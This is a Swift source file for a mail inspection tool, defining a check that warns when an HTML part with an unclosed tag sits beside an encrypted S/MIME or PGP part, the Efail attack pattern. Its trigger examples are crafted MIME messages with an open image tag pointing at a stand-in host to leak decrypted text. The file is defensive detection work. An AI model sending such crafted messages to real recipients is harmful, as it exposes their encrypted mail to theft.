import Content
import Inspection
import Mail
import Phrases

struct EncryptedBesidePage: Check {
    let about = About(
        "encrypted-beside-page", .content, "an encrypted part beside a page",
        severity: .warning,
        why: """
            A page whose last tag is left open takes the decrypted text of the next part into an address, and loads it. \
            Lists that add a footer to an encrypted message make a mixture that looks alike.
            """,
        remedy: "Do not decrypt it in a program that loads pictures.",
        references: [
            .page("Efail: Breaking S/MIME and OpenPGP Email Encryption", "https://efail.de/")
        ],
        triggers: [
            Example(
                "From: <a@example.com>\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n⟦<img src=\"http://x.example/⟧\r\n--b\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAG\r\n--b--\r\n"
            ),
            Example(
                "From: <a@example.com>\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n⟦<img src='http://x.example/⟧\r\n--b\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAG\r\n--b--\r\n"
            ),
        ],
        passes: [
            Example(
                "From: <a@example.com>\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>footer</p>\r\n--b\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAG\r\n--b--\r\n"
            ),
            Example(
                "From: <a@example.com>\r\nContent-Type: text/html\r\n\r\n<img src=\"http://x.example/\r\n"
            ),
        ])

    func findings(in inspection: Inspection) -> [Finding] {
        let open = inspection.contents.unfinishedTags
        guard !open.isEmpty else { return [] }
        let encrypted = inspection.message.parts.contains { part in
            ["multipart/encrypted", "application/pgp-encrypted"].contains(part.contentType.mediaType)
                || part.contentType.mediaType.hasSuffix("pkcs7-mime")
        }
        let armoured = inspection.contents.texts.contains { $0.shown.contains(ascii: "-----BEGIN PGP MESSAGE-----") }
        guard encrypted || armoured else { return [] }
        return [
            Finding(
                "a page ends in the middle of a tag, beside an encrypted part: what is decrypted would become part of an address",
                open.prefix(Report.maximumEvidence).map { .bytes($0.range, label: "never ends") }, count: open.count)
        ]
    }
}
